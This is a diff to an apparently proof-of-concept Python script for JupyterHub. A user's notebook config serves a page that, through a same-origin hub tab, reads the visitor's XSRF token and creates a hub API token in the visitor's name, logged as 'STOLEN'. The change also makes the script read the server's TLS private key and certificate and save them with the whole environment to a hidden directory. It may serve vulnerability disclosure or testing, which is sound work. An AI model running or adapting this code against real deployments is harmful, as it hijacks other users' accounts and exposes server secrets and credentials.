@@ -1,11 +1,12 @@
 """What any user may put into ~/.jupyter: it turns the user's own notebook server against its visitors.
 
 The server tells its owner its environment and every request to /user/NAME/hostile, and serves anybody a page there that
-acts in the hub as whoever looks at it. The page's link opens the hub in a tab, which a page of the same origin may read.
+acts in the hub as whoever looks at it: its link opens the hub in a tab, which a page of the same origin may read.
 """
 
 import json
 import os
+import sys
 from pathlib import Path
 
 from jupyter_server.serverapp import ServerWebApplication
@@ -21,8 +22,10 @@ link.onclick = () => {
       const data = tab.jhdata;
       if (!data?.xsrf_token) return;
       clearInterval(timer);
-      const answer = await fetch(`/hub/api/users/${data.user}/tokens`, {
-        method: "POST", body: '{"note": "lab"}', headers: {"X-XSRFToken": data.xsrf_token}});
+      // By the hub's own page: what it asks for comes from there.
+      const answer = await tab.eval(`fetch("/hub/api/users/${data.user}/tokens", {
+        method: "POST", body: '{"note": "lab"}',
+        headers: {"X-XSRFToken": "${data.xsrf_token}", "Content-Type": "application/json"}})`);
       await said(`STOLEN ${data.user} ${answer.status} ${await answer.text()}`);
     } catch (error) { clearInterval(timer); await said(`failed: ${error}`); }
   }, 200);
@@ -31,7 +34,13 @@ link.onclick = () => {
 
 DIRECTORY = Path.home() / ".hostile"
 DIRECTORY.mkdir(mode=0o700, exist_ok=True)
-(DIRECTORY / "server.json").write_text(json.dumps({"pid": os.getpid(), "environment": dict(os.environ)}))
+# The server's key and certificate, where it has any: what runs in it, as this does, can read them.
+given = dict(word.lstrip("-").split("=", 1) for word in sys.argv if "=" in word)
+files = ("keyfile", "certfile")
+places = [given.get(f"ServerApp.{name}", os.environ.get(f"JUPYTERHUB_SSL_{name.upper()}")) for name in files]
+pem = "\n".join(Path(place).read_text() for place in places if place)
+known = {"pid": os.getpid(), "environment": dict(os.environ), "pem": pem}
+(DIRECTORY / "server.json").write_text(json.dumps(known))
 
 
 class Hostile(RequestHandler):
